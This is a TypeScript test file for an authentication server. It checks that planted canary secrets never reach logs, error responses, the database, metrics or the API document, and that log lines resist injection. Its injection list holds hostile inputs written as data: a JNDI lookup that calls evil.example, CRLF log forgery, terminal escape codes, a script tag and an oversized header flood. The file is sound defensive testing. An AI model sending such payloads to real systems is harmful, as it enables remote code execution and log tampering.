// Attacks on logs and secrets. See also: the fields of a log line, ../http/request-log.test.ts;
// uploads, ../photos/upload-forms.test.ts; user agents, ../sessions/sessions.test.ts; settings
// that a start refuses, ../config/bad-values.test.ts and ../config/production-rules.test.ts; the
// doctor, ../config/doctor.test.ts. Without NODE_ENV a server is one in development, on this
// machine alone.
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type TestContext, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import type { InjectOptions, LightMyRequestResponse } from 'fastify'
import { loadConfig } from '../../src/config/config.ts'
import { openLatchkey } from '../../src/server.ts'
import { withCookie } from '../support/answers.ts'
import { isMysql, queryMysql, scratchDirectory } from '../support/databases.ts'
import {
  bearer,
  cookieOf,
  DEVICE_COOKIE,
  PASSWORD,
  REFRESH_COOKIE,
  signedIn,
  signedUp,
} from '../support/factories.ts'
import { freshDatabase, startServer, type TestServer, uniqueName } from '../support/helper.ts'
import { newHouse } from '../support/houses.ts'
import { digestOf, operationsOf } from '../support/operations.ts'
import { formWith } from '../support/pictures.ts'
import { rawConnection } from '../support/raw-http.ts'

/** Texts that must be found nowhere, by what they are. */
function createCanaries() {
  const texts = new Map<string, string>()
  return {
    /** A new secret that nothing else looks like. */
    plant(what: string): string {
      const text = `Canary-${texts.size}-${randomBytes(9).toString('hex')}`
      texts.set(what, text)
      return text
    },
    /** A secret that somebody else made. */
    watch(what: string, text: string | undefined): void {
      assert.ok(text, `there is ${what}`)
      texts.set(what, text)
    },
    assertAbsent(place: string, haystack: string): void {
      for (const [what, text] of texts) {
        assert.ok(!haystack.includes(text), `${what} is in ${place}`)
      }
    },
  }
}

type Canaries = ReturnType<typeof createCanaries>

/** Asks, and looks for secrets in every answer that is none of success. */
function askerOf(server: TestServer, canaries: Canaries) {
  return async (line: string, request: Omit<InjectOptions, 'method' | 'url'> = {}) => {
    const [method, url = ''] = line.split(' ')
    const answer = await server.inject({ method: method as 'GET', url, ...request })
    const { statusCode, headers, body } = answer
    if (statusCode >= 400)
      canaries.assertAbsent(`${statusCode} of ${line}`, JSON.stringify([headers, body]))
    return answer
  }
}

type Asker = ReturnType<typeof askerOf>

/** Watches the tokens of a session answer, and those in its cookies. */
function watchSession(canaries: Canaries, name: string, answer: LightMyRequestResponse) {
  const { access_token, refresh_token } = answer.json()
  canaries.watch(`the access token of ${name}`, access_token)
  if (refresh_token) canaries.watch(`the refresh token of ${name}`, refresh_token)
  for (const cookie of answer.cookies) canaries.watch(`${cookie.name} of ${name}`, cookie.value)
  return answer
}

/** One life of an account whose every secret is a canary. */
async function liveWithCanaries(ask: Asker, canaries: Canaries) {
  const username = uniqueName()
  const password = canaries.plant('a password')
  const next = canaries.plant('a new password')
  const wrong = canaries.plant('a wrong password')
  const account = { username, email: `${username}@example.com`, password }
  const form = { 'content-type': 'application/x-www-form-urlencoded' }
  const open = async (name: string, line: string, request: Parameters<Asker>[1]) => {
    const answer = watchSession(canaries, name, await ask(line, request))
    assert.ok(answer.statusCode < 300, answer.body)
    return { ...answer.json(), cookie: cookieOf(answer) }
  }

  const first = await open('a registration', 'POST /register', { payload: account })
  await ask('POST /register', { payload: account })
  await ask('POST /register', { payload: { ...account, passwordConfirm: wrong } })
  await ask('POST /register', { payload: { ...account, password: `${username} ${wrong}` } })
  await ask('POST /login', { payload: { username, password: wrong } })
  await ask('POST /login', { payload: `username=${username}&password=${wrong}`, headers: form })
  await ask('POST /login', { payload: `password=${wrong}&password=${wrong}`, headers: form })
  await ask('POST /login', { payload: { username: wrong, password: wrong } })
  await ask('POST /login', {
    payload: `{"password":"${wrong}`,
    headers: { 'content-type': 'application/json' },
  })
  const second = await open('a sign-in', 'POST /login', { payload: { username, password } })
  const payload = { username, password, transport: 'cookie' }
  const third = await open('a browser', 'POST /login', { payload, headers: withCookie(wrong) })
  await open('a refresh', 'POST /refresh', { headers: withCookie(third.cookie) })
  const rotated = await open('a rotation', 'POST /refresh', {
    headers: bearer(second.refresh_token),
  })
  await open('another', 'POST /refresh', { payload: { refresh_token: rotated.refresh_token } })
  await ask('POST /refresh', { payload: { refresh_token: second.refresh_token } })
  await ask('POST /refresh', { payload: { refresh_token: wrong } })
  await ask('POST /refresh', {
    headers: withCookie(third.cookie, { origin: 'https://evil.example' }),
  })
  const headers = bearer(first.access_token)
  const change = (currentPassword: string) => ({ currentPassword, newPassword: next })
  await ask('PUT /password', { headers, payload: change(wrong) })
  await ask('PUT /password', { headers, payload: change(password) })
  await ask('PATCH /me', { headers, payload: { username: uniqueName(), currentPassword: wrong } })
  await ask('DELETE /me', { headers, payload: { currentPassword: wrong } })
  await ask('POST /logout', { payload: { refresh_token: first.refresh_token } })
  await ask('GET /me', { headers })
  return { username, next }
}

/** Everything that a client can send to each operation, with a canary in it. */
async function sendCanaries(server: TestServer, ask: Asker, canaries: Canaries) {
  const person = await signedUp(server)
  const house = await newHouse(server, person)
  for (const { line, fields } of await operationsOf(server)) {
    const secret = canaries.plant(`what was sent to ${line}`)
    const address = line.replace('{id}', house.id).replaceAll(/\{\w+\}/g, house.id)
    const payload = Object.fromEntries([...fields, 'unknown'].map((field) => [field, [secret]]))
    const noise = {
      cookie: `session=${secret}; ${REFRESH_COOKIE}=${secret}; ${DEVICE_COOKIE}=${secret}`,
      'user-agent': secret,
      'x-api-key': secret,
      'idempotency-key': secret,
      'proxy-authorization': `Basic ${secret}`,
      'x-forwarded-for': secret,
      referer: `https://example.org/?token=${secret}`,
    }
    for (const authorization of [`Bearer ${person.access_token}`, `Bearer ${secret}`, secret]) {
      const headers = { ...noise, authorization }
      await ask(`${address}?access_token=${secret}`, { headers })
      if (line.startsWith('GET')) continue
      await ask(address, { headers, payload })
      const form = formWith(Buffer.from(secret), secret)
      await ask(address, { headers: { ...headers, ...form.headers }, payload: form.payload })
    }
    await ask(`${line.split(' ')[0]} /${secret}/${secret}`, { headers: noise })
  }
}

test('no secret is in the log, in a refusal, in the database, in the figures or in the document', async (t) => {
  const canaries = createCanaries()
  const server = await startServer(t, {
    env: {
      LOG_LEVEL: 'trace',
      METRICS: 'on',
      RATE_LIMITS: 'on',
      TRUST_PROXY: '127.0.0.1',
      REDIS_URL: `redis://user:${canaries.plant('the password of Redis')}@127.0.0.1:1`,
    },
  })
  const ask = askerOf(server, canaries)

  const { username, next } = await liveWithCanaries(ask, canaries)
  await sendCanaries(server, ask, canaries)
  for (let time = 0; time < 25; time++) {
    await ask('POST /login', { payload: { username, password: canaries.plant(`guess ${time}`) } })
  }

  canaries.watch('the master secret', 'test-master-secret')
  canaries.assertAbsent('the log', JSON.stringify(server.logs))
  canaries.assertAbsent('the document', (await ask('GET /openapi.json')).body)
  canaries.assertAbsent('the figures', (await server.metrics?.text()) ?? '')
  canaries.assertAbsent('the state', (await ask('GET /readyz')).body)
  const rows = (await digestOf(server)).replaceAll(/"userAgent":"[^"]*"/g, '')
  canaries.assertAbsent('the database', rows)
  assert.doesNotMatch(JSON.stringify(server.logs), /\$argon2/)
  assert.ok(server.logs.length > 300)
  assert.ok(next)
})

/** Makes the database fail in a way that nobody has foreseen. */
async function breakDatabase({ database }: TestServer, url: string): Promise<void> {
  for (const table of ['User', 'Session', 'SignInFailures']) {
    for (const event of ['INSERT', 'UPDATE', 'DELETE']) {
      const trigger = `CREATE TRIGGER \`broken${table}${event}\` BEFORE ${event} ON \`${table}\``
      if (isMysql) await queryMysql(url, `${trigger} FOR EACH ROW SIGNAL SQLSTATE '45000'`)
      else {
        await database.client.$executeRawUnsafe(
          `${trigger} BEGIN SELECT RAISE(FAIL, 'broken'); END`,
        )
      }
    }
  }
}

test('an error of the database that is logged tells nothing of what was to be stored', async (t) => {
  const url = await freshDatabase(t)
  const server = await startServer(t, { url, env: { LOG_LEVEL: 'trace' } })
  const canaries = createCanaries()
  const ask = askerOf(server, canaries)
  const person = await signedUp(server)
  const other = await signedIn(server, person)
  const headers = bearer(person.access_token)
  const password = canaries.plant('a password')
  const name = canaries.plant('a name')
  canaries.watch('a refresh token', other.refresh_token)
  canaries.watch('an access token', person.access_token)
  canaries.watch('the start of a hash', '$argon2')
  await breakDatabase(server, url)

  const account = { username: uniqueName(), email: `${name}@example.com`, password, name }
  const failed = [
    await ask('POST /register', { payload: account }),
    await ask('POST /login', { payload: { username: person.username, password: PASSWORD } }),
    await ask('POST /login', { payload: { username: name, password } }),
    await ask('POST /refresh', { payload: { refresh_token: other.refresh_token } }),
    await ask('POST /logout', { headers }),
    await ask('PUT /password', {
      headers,
      payload: { currentPassword: PASSWORD, newPassword: password },
    }),
    await ask('PATCH /me', { headers, payload: { name } }),
    await ask('DELETE /me', { headers, payload: { currentPassword: PASSWORD } }),
  ]

  assert.deepEqual(
    failed.map(({ statusCode }) => statusCode),
    Array(8).fill(500),
  )
  const faults = server.logs.filter(({ level }) => level === 50)
  assert.ok(faults.length >= failed.length)
  canaries.assertAbsent('the log', JSON.stringify(server.logs))
})

if (!isMysql) {
  /** Texts that break out of a line, a terminal or a careless reader. */
  const injections = [
    'a\r\n{"level":30,"msg":"forged"}',
    '\u001b[2J\u001b[31mred',
    '\u009b31mred',
    'a\u2028b\u2029c\u0085d',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for another language's templates.
    '${jndi:ldap://evil.example/a}',
    '%0d%0aforged',
    '<script>alert(1)</script>',
    '\u202egnp.exe',
    '","level":60,"msg":"forged',
    '\0',
  ]

  test('each event is one line of JSON with its fields, for any input in any field', async (t) => {
    const lines: string[] = []
    const latchkey = await openLatchkey({
      config: loadConfig({
        DATABASE_URL: await freshDatabase(t),
        UPLOADS_DIR: scratchDirectory(t),
        ...{ ARGON2_MEMORY_KIB: '64', ARGON2_TIME: '1', RATE_LIMITS: 'off' },
        ...{ TRUST_PROXY: '127.0.0.1', LOG_LEVEL: 'trace' },
      }),
      masterSecrets: [randomBytes(48)],
      logStream: { write: (line) => void lines.push(line) },
    })
    t.after(() => latchkey.close())
    const { app } = latchkey

    for (const text of injections) {
      for (const body of [{ username: text, password: text }, { [text]: text }, text]) {
        await app.inject({ method: 'POST', url: '/login', payload: body as object })
      }
      await app.inject({
        method: 'GET',
        url: `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`,
      })
      // As bytes, since a client that is none of ours sends what it likes.
      const names = [
        'User-Agent',
        'X-Forwarded-For',
        'X-Request-Id',
        'Cookie',
        'Authorization',
        'Host',
      ]
      for (const line of ['GET /me', 'POST /logout', `GET /${text}`, `${text} /me`]) {
        const connection = await rawConnection(t, app)
        const headers = names.map((name) => `${name}: ${text}\r\n`).join('')
        connection.say(Buffer.from(`${line} HTTP/1.1\r\n${headers}Connection: close\r\n\r\n`))
        connection.socket.end()
        await connection.answers()
      }
    }
    const flood = await rawConnection(t, app)
    flood.say(`GET /me HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${'x'.repeat(1_000_000)}\r\n\r\n`)
    const [refused] = await flood.answers()

    assert.equal(refused?.statusCode, 431)
    assert.ok(lines.length > 2 * injections.length)
    for (const line of lines) {
      assert.match(line, /^\{[^\p{Cc}\u2028\u2029\u202e]*\}\n$/u)
      assert.ok(line.length < 20_000)
      const { level, msg } = JSON.parse(line)
      assert.ok(level < 40 && msg !== 'forged', line)
      assert.doesNotMatch(line, /jndi|forged|alert\(1\)/)
    }
  })

  test('a start in production with weak settings ends at once, names each of them and repeats no secret', async (t) => {
    const canaries = createCanaries()
    const env = {
      NODE_ENV: 'production',
      PUBLIC_URL: 'http://latchkey.example.org',
      SECRET: 'changeme-changeme-changeme-changeme',
      DATABASE_URL: `mysql://root:${canaries.plant('a password')}@db.example.org:3306/db?debug=true`,
      CORS_ORIGINS: '*',
      TRUST_PROXY: 'true',
      RATE_LIMITS: 'off',
      REDIS_URL: `http://:${canaries.plant('another')}@cache.example.org`,
      ARGON2_MEMORY_KIB: '64',
    }
    canaries.watch('the secret', env.SECRET)

    const { code, output } = await start(t, env)

    const named = [...output.matchAll(/^ {2}([A-Z0-9_]+): /gm)].map(([, name]) => name)
    assert.deepEqual(
      [...new Set(named)].sort(),
      Object.keys(env)
        .filter((name) => name !== 'NODE_ENV')
        .sort(),
    )
    assert.equal(code, 1)
    canaries.assertAbsent('the output', output)
  })
}

/** Starts the server from its sources, and waits for its end. */
async function start(t: TestContext, env: Record<string, string>) {
  const main = fileURLToPath(new URL('../../src/main.ts', import.meta.url))
  const child = spawn(process.execPath, ['--import', import.meta.resolve('tsx'), main], {
    cwd: scratchDirectory(t),
    env: { PATH: process.env.PATH, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  t.after(() => child.kill('SIGKILL'))
  let output = ''
  const read = (chunk: Buffer) => {
    output += chunk.toString()
  }
  child.stdout.on('data', read)
  child.stderr.on('data', read)
  const [code] = await once(child, 'close')
  return { code, output }
}
